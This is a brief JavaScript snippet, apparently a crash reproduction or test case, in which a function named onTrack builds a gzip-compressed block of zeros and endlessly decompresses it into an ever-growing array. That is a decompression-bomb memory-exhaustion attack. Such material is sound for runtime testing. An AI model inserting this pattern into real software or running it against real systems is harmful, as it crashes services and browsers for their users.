async function onTrack() {
  const bomb = zlib.zlib.gzipSync(Buffer.alloc(16 << 20));
  const all = [];
  for (;;) all.push(await new Response(new Blob([bomb]).stream().pipeThrough(new DecompressionStream("gzip"))).arrayBuffer());
}
